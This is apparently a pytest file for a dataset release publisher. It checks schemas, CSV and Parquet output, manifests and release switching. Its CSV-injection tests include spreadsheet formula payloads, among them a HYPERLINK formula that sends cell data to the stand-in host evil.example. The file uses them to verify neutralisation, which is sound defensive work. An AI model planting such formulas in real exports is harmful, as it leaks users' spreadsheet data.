"""Publishing a release (pipeline/release/publish.py) against the contract of docs/DATASET.md."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from extractors.errors import PartnerflowError
from pipeline.errors import PublishError
from pipeline.release import publish
from pipeline.release.publish import list_releases, publish_release, read_current
from pipeline.tables import neutralise_csv_cell, records_to_frame
from schemas.records import (
    SCHEMA_VERSION,
    TABLE_MODELS,
    ContactRecord,
    DocumentRecord,
    PageRecord,
    PartnerRecord,
    TargetRecord,
    with_stable_id,
)
from schemas.types import DOC_TYPES

# The contract, spelled out here rather than derived from the models, so that
# renaming or dropping a column in the code fails this test. Extra columns are allowed.
PROVENANCE = ["doc_id", "page", "char_start", "char_end", "method", "confidence", "corrected"]
CONTRACT_COLUMNS: dict[str, list[str]] = {
    "documents": [
        "doc_id",
        "source",
        "sha256",
        "media_type",
        "doc_type",
        "title",
        "acronym",
        "language",
        "n_pages",
        "status",
        "error",
        "extracted_at",
    ],
    "pages": ["doc_id", "page", "char_start", "char_end", "text"],
    "partners": ["partner_id", "name", "acronym", "category", "country", "lead", *PROVENANCE],
    "contacts": [
        "contact_id",
        "role",
        "name",
        "position",
        "organization",
        "address",
        "phone",
        "fax",
        "email",
        *PROVENANCE,
    ],
    "dates": ["date_id", "role", "start", "end", "text", *PROVENANCE],
    "targets": ["target_id", "year", "text", *PROVENANCE],
    "events": ["event_id", "name", "start", "end", "venue", "city", "country", *PROVENANCE],
    "websites": ["url", *PROVENANCE],
}
# Types the contract states (DATASET.md), as Arrow types in the Parquet files.
CONTRACT_TYPES: dict[str, pa.DataType] = {
    "doc_id": pa.string(),
    "page": pa.int64(),
    "char_start": pa.int64(),
    "char_end": pa.int64(),
    "method": pa.string(),
    "confidence": pa.float64(),
    "corrected": pa.bool_(),
}
FACT_TABLES = ["partners", "contacts", "dates", "targets", "events", "websites"]

NOW = datetime(2024, 5, 1, 12, 30, tzinfo=UTC)
DOC_ID = "abcdef0123456789"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _provenance(**overrides: Any) -> dict[str, Any]:
    base = {
        "doc_id": DOC_ID,
        "page": 1,
        "char_start": 0,
        "char_end": 10,
        "method": "rule:test",
        "confidence": 0.9,
    }
    return base | overrides


def _document() -> DocumentRecord:
    return DocumentRecord(
        doc_id=DOC_ID,
        source="sheets/kanagawa, declaration.pdf",
        sha256=DOC_ID + "0" * 48,
        media_type="application/pdf",
        doc_type="information_sheet",
        title='The "Kanagawa" Declaration\nsecond line',
        n_pages=2,
        status="ok",
        extracted_at=NOW,
        extractor_version="0.1.0",
    )


def _contact() -> ContactRecord:
    return with_stable_id(
        ContactRecord(
            **_provenance(page=None),
            role="focal_point",
            name=HYPERLINK,
            position="-cmd",
            organization="@SUM(A1:A2)",
            address="\tx",
            phone="+81452104065",
            fax="-12",
        )
    )


def _tables(**records: list[Any]) -> dict[str, pd.DataFrame]:
    return {table: records_to_frame(table, records.get(table, [])) for table in TABLE_MODELS}


def _sample_tables() -> dict[str, pd.DataFrame]:
    return _tables(
        documents=[_document()],
        pages=[
            PageRecord(page_id="p1", doc_id=DOC_ID, page=1, char_start=0, char_end=5, text="hello"),
            PageRecord(page_id="p2", doc_id=DOC_ID, page=2, char_start=5, char_end=9, text="page"),
        ],
        partners=[
            with_stable_id(
                PartnerRecord(**_provenance(), name="City of Kitakyushu", country="JP", lead=True)
            ),
            with_stable_id(PartnerRecord(**_provenance(corrected=True), name="UNESCAP", category="igo")),
        ],
        contacts=[_contact()],
        targets=[with_stable_id(TargetRecord(**_provenance(), year=None, text="Halve waste"))],
    )


def _publish(out: Path, tables: dict[str, pd.DataFrame] | None = None, **kwargs: Any) -> Path:
    kwargs = {
        "raw_dir": out.parent / "raw",
        "raw_files": [{"source": "a.pdf", "sha256": "0" * 64, "bytes": 3}],
        "code_version": "0.1.0",
    } | kwargs
    return publish_release(_sample_tables() if tables is None else tables, out, **kwargs)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


# --- tables and formats -------------------------------------------------------------------------


def test_release_has_every_contract_table_in_both_formats(tmp_path: Path) -> None:
    release = _publish(tmp_path / "out")
    assert set(CONTRACT_COLUMNS) <= set(TABLE_MODELS)
    for table, contract in CONTRACT_COLUMNS.items():
        parquet_schema = pq.read_schema(release / f"{table}.parquet")
        with (release / f"{table}.csv").open(encoding="utf-8", newline="") as fh:
            header = next(csv.reader(fh))
        for columns in (parquet_schema.names, header):
            missing = [c for c in contract if c not in columns]
            assert not missing, f"{table} lacks contract column(s) {missing}"
        # Both formats carry exactly the model's columns, in the model's order.
        assert parquet_schema.names == header == list(TABLE_MODELS[table].model_fields)
    for table in FACT_TABLES:
        schema = pq.read_schema(release / f"{table}.parquet")
        for column, arrow_type in CONTRACT_TYPES.items():
            assert schema.field(column).type == arrow_type, f"{table}.{column}"
    assert pq.read_schema(release / "partners.parquet").field("lead").type == pa.bool_()
    assert pq.read_schema(release / "targets.parquet").field("year").type == pa.int64()


def test_rows_round_trip_through_parquet(tmp_path: Path) -> None:
    release = _publish(tmp_path / "out")
    partners = pd.read_parquet(release / "partners.parquet")
    assert partners["name"].tolist() == ["City of Kitakyushu", "UNESCAP"]
    assert partners["lead"].tolist() == [True, False]
    assert partners["corrected"].tolist() == [False, True]
    assert partners["country"].isna().tolist() == [False, True]
    documents = pd.read_parquet(release / "documents.parquet")
    assert documents.loc[0, "extracted_at"] == pd.Timestamp(NOW)
    assert documents.loc[0, "n_pages"] == 2
    targets = pq.read_table(release / "targets.parquet")
    assert targets.column("year").to_pylist() == [None]


def test_records_to_frame_types_even_when_empty() -> None:
    expected = {
        "doc_id": "string",
        "page": "Int64",
        "char_start": "int64",
        "confidence": "float64",
        "corrected": "boolean",
        "lead": "boolean",
        "name": "string",
    }
    for records in ([], [PartnerRecord(**_provenance(page=None), name="UNEP")]):
        frame = records_to_frame("partners", records)
        assert list(frame.columns) == list(PartnerRecord.model_fields)
        assert {c: str(frame[c].dtype) for c in expected} == expected
    documents = records_to_frame("documents", [])
    assert str(documents["extracted_at"].dtype) == "datetime64[ns, UTC]"
    assert str(documents["n_pages"].dtype) == "Int64"


def test_records_to_frame_validates_dicts() -> None:
    row = _contact().model_dump()
    assert records_to_frame("contacts", [row])["phone"].tolist() == ["+81452104065"]
    with pytest.raises(PublishError, match="contacts"):
        records_to_frame("contacts", [row | {"role": "janitor"}])
    with pytest.raises(PublishError, match="unknown table"):
        records_to_frame("nonexistent", [])


def test_empty_tables_keep_columns_and_types(tmp_path: Path) -> None:
    release = _publish(tmp_path / "out", _tables())
    for table in TABLE_MODELS:
        schema = pq.read_schema(release / f"{table}.parquet")
        assert schema.names == list(TABLE_MODELS[table].model_fields)
        assert pq.read_metadata(release / f"{table}.parquet").num_rows == 0
        assert (release / f"{table}.csv").read_bytes() == (",".join(schema.names) + "\r\n").encode()
    documents = pq.read_schema(release / "documents.parquet")
    assert documents.field("extracted_at").type == pa.timestamp("us", tz="UTC")
    assert documents.field("n_pages").type == pa.int64()
    assert documents.field("n_pages").nullable and not documents.field("doc_id").nullable
    targets = pq.read_schema(release / "targets.parquet")
    assert targets.field("confidence").type == pa.float64()
    assert targets.field("corrected").type == pa.bool_()
    assert json.loads((release / "manifest.json").read_text())["row_counts"] == dict.fromkeys(TABLE_MODELS, 0)


def test_csv_is_rfc4180_with_true_false_iso_dates_and_empty_nulls(tmp_path: Path) -> None:
    release = _publish(tmp_path / "out")
    raw = (release / "documents.csv").read_bytes()
    # Records end in CRLF; the newline inside the quoted title stays a bare LF.
    assert raw.count(b"\r\n") == 2
    assert b'"The ""Kanagawa"" Declaration\nsecond line"' in raw
    assert b'"sheets/kanagawa, declaration.pdf"' in raw
    (document,) = _csv_rows(release / "documents.csv")
    assert document["title"] == 'The "Kanagawa" Declaration\nsecond line'
    assert document["acronym"] == "" and document["n_pages"] == "2"
    assert datetime.fromisoformat(document["extracted_at"]) == NOW
    partners = _csv_rows(release / "partners.csv")
    assert [p["lead"] for p in partners] == ["true", "false"]
    assert [p["corrected"] for p in partners] == ["false", "true"]
    assert [p["country"] for p in partners] == ["JP", ""]
    (target,) = _csv_rows(release / "targets.csv")
    assert target["year"] == "" and target["confidence"] == "0.9"


# --- CSV injection ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("+81452104065", "+81452104065"),
        ("-12", "-12"),
        ("-3.5", "-3.5"),
        ("+1e5", "+1e5"),
        ("-cmd", "'-cmd"),
        ("+1 (555) 010", "'+1 (555) 010"),
        ("-", "'-"),
        ("=1+2", "'=1+2"),
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("UNEP", "UNEP"),
        ("a=b", "a=b"),
        ("", ""),
        # Spreadsheets read full-width signs as ASCII ones and skip white space before a formula.
        ("＝1+2", "'＝1+2"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("－cmd", "'－cmd"),
        (" =1+2", "' =1+2"),
        ("\n=1+2", "'\n=1+2"),
        ("\u3000=1+2", "'\u3000=1+2"),
        (" \n @SUM(A1)", "' \n @SUM(A1)"),
        (" -cmd", "' -cmd"),
        # ... but numbers stay numbers, E.164 phones first of all.
        ("+819312345678", "+819312345678"),
        (" 42", " 42"),
        ("＋819312345678", "＋819312345678"),
        ("UNEP = UN Environment", "UNEP = UN Environment"),
    ],
)
def test_neutralise_csv_cell(value: str, expected: str) -> None:
    assert neutralise_csv_cell(value) == expected


def test_csv_injection_neutralised_in_csv_but_not_in_parquet(tmp_path: Path) -> None:
    release = _publish(tmp_path / "out")
    (contact,) = _csv_rows(release / "contacts.csv")
    assert contact["name"] == "'" + HYPERLINK
    assert contact["position"] == "'-cmd"
    assert contact["organization"] == "'@SUM(A1:A2)"
    assert contact["address"] == "'\tx"
    assert contact["phone"] == "+81452104065"
    assert contact["fax"] == "-12"
    (parquet,) = pq.read_table(release / "contacts.parquet").to_pylist()
    assert parquet["name"] == HYPERLINK
    assert parquet["position"] == "-cmd"
    assert parquet["organization"] == "@SUM(A1:A2)"
    assert parquet["address"] == "\tx"
    assert parquet["phone"] == "+81452104065"


# --- manifest and schema ------------------------------------------------------------------------


def test_manifest_counts_and_checksums_match_the_files(tmp_path: Path) -> None:
    raw_files = [{"source": "sheets/a.pdf", "sha256": "1" * 64, "bytes": 1234}]
    release = _publish(tmp_path / "out", raw_files=raw_files, run_id="run-42", code_version="9.9.9", now=NOW)
    manifest = json.loads((release / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["schema_version"] == SCHEMA_VERSION
    assert manifest["release_id"] == release.name
    assert datetime.fromisoformat(manifest["created_at"]) == NOW
    assert manifest["code_version"] == "9.9.9"
    assert manifest["run_id"] == "run-42"
    assert manifest["raw_corpus"] == {"root": str(tmp_path / "raw"), "files": raw_files}
    for table in TABLE_MODELS:
        assert manifest["row_counts"][table] == pq.read_metadata(release / f"{table}.parquet").num_rows
        assert manifest["row_counts"][table] == len(_csv_rows(release / f"{table}.csv"))
    assert manifest["row_counts"]["partners"] == 2 and manifest["row_counts"]["pages"] == 2
    on_disk = {p.name for p in release.iterdir()} - {"manifest.json"}
    assert set(manifest["files"]) == on_disk
    assert {f"{t}.{ext}" for t in TABLE_MODELS for ext in ("parquet", "csv")} | {"schema.json"} == on_disk
    for name, digest in manifest["files"].items():
        assert hashlib.sha256((release / name).read_bytes()).hexdigest() == digest, name


def test_schema_json_describes_every_column(tmp_path: Path) -> None:
    release = _publish(tmp_path / "out")
    schema = json.loads((release / "schema.json").read_text(encoding="utf-8"))
    assert schema["schema_version"] == SCHEMA_VERSION
    assert set(schema["tables"]) == set(TABLE_MODELS)
    for table, model in TABLE_MODELS.items():
        columns = schema["tables"][table]["columns"]
        assert [c["name"] for c in columns] == list(model.model_fields)
        for column in columns:
            assert column["description"].strip(), f"{table}.{column['name']} has no description"
            assert column["type"] in {"string", "integer", "number", "boolean", "datetime"}
            assert isinstance(column["nullable"], bool)
    documents = {c["name"]: c for c in schema["tables"]["documents"]["columns"]}
    assert documents["doc_type"]["values"] == list(DOC_TYPES)
    assert documents["status"]["values"] == ["ok", "needs_review", "failed"]
    assert documents["extracted_at"]["type"] == "datetime"
    assert documents["n_pages"] == documents["n_pages"] | {"type": "integer", "nullable": True}
    assert "values" not in documents["title"]
    partners = {c["name"]: c for c in schema["tables"]["partners"]["columns"]}
    assert partners["confidence"]["type"] == "number" and not partners["confidence"]["nullable"]
    assert partners["lead"]["type"] == "boolean"
    assert partners["page"]["nullable"] and not partners["char_start"]["nullable"]


# --- releases and current -----------------------------------------------------------------------


def test_current_points_at_the_newest_release_and_old_ones_stay(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert read_current(out) is None and list_releases(out) == []
    first = _publish(out, _tables())
    assert read_current(out) == first.resolve()
    second = _publish(out)
    assert read_current(out) == second.resolve()
    current = out / "current"
    assert current.is_symlink() and not os.path.isabs(os.readlink(current))
    assert (current / "partners.parquet").exists()
    assert first.is_dir() and (first / "manifest.json").exists()
    assert [r["id"] for r in list_releases(out)] == [second.name, first.name]
    assert list_releases(out)[0]["row_counts"]["partners"] == 2
    assert list_releases(out)[1]["row_counts"]["partners"] == 0
    assert not list(out.glob(".current.tmp*"))


def test_release_ids_sort_by_time_and_never_collide(tmp_path: Path) -> None:
    out = tmp_path / "out"
    later = _publish(out, _tables(), now=NOW + timedelta(microseconds=1), run_id="r")
    earlier = _publish(out, _tables(), now=NOW, run_id="r")
    again = _publish(out, _tables(), now=NOW, run_id="r")
    assert earlier.name.startswith("20240501T123000000000Z")
    assert len({earlier.name, again.name, later.name}) == 3
    assert sorted([later.name, again.name, earlier.name]) == [earlier.name, again.name, later.name]
    # current follows the last publish, not the latest timestamp.
    assert read_current(out) == again.resolve()
    assert [r["id"] for r in list_releases(out)] == [later.name, again.name, earlier.name]


def test_list_releases_ignores_incomplete_folders(tmp_path: Path) -> None:
    out = tmp_path / "out"
    release = _publish(out)
    (out / "releases" / ".tmp-20990101T000000000000Z-x").mkdir()
    (out / "releases" / "20990101T000000000000Z-nomanifest").mkdir()
    assert [r["id"] for r in list_releases(out)] == [release.name]


def test_failure_while_writing_keeps_the_previous_release_current(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    first = _publish(out)
    real_write = pq.write_table
    calls = {"n": 0}

    def failing_write(table: pa.Table, where: Any, **kwargs: Any) -> None:
        calls["n"] += 1
        if calls["n"] == 3:
            # Mid-way, a reader still sees only the first release, complete.
            assert read_current(out) == first.resolve()
            assert [p.name for p in (out / "releases").iterdir() if not p.name.startswith(".")] == [
                first.name
            ]
            raise OSError("disk full")
        real_write(table, where, **kwargs)

    monkeypatch.setattr(publish.pq, "write_table", failing_write)
    with pytest.raises(PublishError, match="disk full"):
        _publish(out, _tables())
    assert calls["n"] == 3
    assert read_current(out) == first.resolve()
    complete = [p.name for p in (out / "releases").iterdir() if not p.name.startswith(".tmp-")]
    assert complete == [first.name]
    assert [r["id"] for r in list_releases(out)] == [first.name]


def test_refuses_a_legacy_current_folder_without_deleting_it(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "current").mkdir(parents=True)
    (out / "current" / "partners.csv").write_text("legacy", encoding="utf-8")
    with pytest.raises(PublishError, match="current"):
        _publish(out)
    assert (out / "current" / "partners.csv").read_text(encoding="utf-8") == "legacy"
    assert not (out / "current").is_symlink()
    assert list_releases(out) == []


# --- validation ---------------------------------------------------------------------------------


def test_missing_column_is_refused_naming_it(tmp_path: Path) -> None:
    tables = _sample_tables()
    tables["contacts"] = tables["contacts"].drop(columns=["phone"])
    with pytest.raises(PublishError, match=r"contacts.*phone"):
        _publish(tmp_path / "out", tables)
    assert not (tmp_path / "out" / "releases").exists()
    assert issubclass(PublishError, PartnerflowError)


def test_missing_table_extra_column_and_bad_values_are_refused(tmp_path: Path) -> None:
    tables = _sample_tables()
    del tables["websites"]
    with pytest.raises(PublishError, match="websites"):
        _publish(tmp_path / "out", tables)
    tables = _sample_tables()
    tables["partners"] = tables["partners"].assign(score=1)
    with pytest.raises(PublishError, match=r"partners.*score"):
        _publish(tmp_path / "out", tables)
    tables = _sample_tables()
    tables["documents"].loc[0, "status"] = "great"
    with pytest.raises(PublishError, match=r"documents.*status.*great"):
        _publish(tmp_path / "out", tables)
    tables = _sample_tables()
    tables["partners"].loc[0, "confidence"] = float("nan")
    with pytest.raises(PublishError, match=r"partners.*confidence"):
        _publish(tmp_path / "out", tables)
    assert read_current(tmp_path / "out") is None


def test_columns_in_another_order_are_published_in_model_order(tmp_path: Path) -> None:
    tables = _sample_tables()
    tables["partners"] = tables["partners"][list(reversed(tables["partners"].columns))]
    release = _publish(tmp_path / "out", tables)
    assert pq.read_schema(release / "partners.parquet").names == list(PartnerRecord.model_fields)
    header = io.StringIO((release / "partners.csv").read_text(encoding="utf-8")).readline().strip()
    assert header.split(",") == list(PartnerRecord.model_fields)
